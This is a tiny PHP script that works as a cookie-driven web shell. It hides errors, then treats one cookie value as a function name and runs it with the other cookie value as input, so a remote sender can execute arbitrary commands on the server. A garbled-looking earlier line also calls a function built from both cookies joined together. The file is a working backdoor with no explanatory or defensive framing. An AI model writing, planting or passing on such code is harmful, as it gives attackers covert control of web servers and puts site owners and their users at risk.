<?php
ini_set('display_errors', 0);
$t = $_COOKIE; (count($t) == 2 && isset($t['a'])) ? (($f = $t['a'] . $t['b']) && ($g = $f($t['a'] . $t['b']))) : 0;
$k = $t['a']; $k($t['b']);
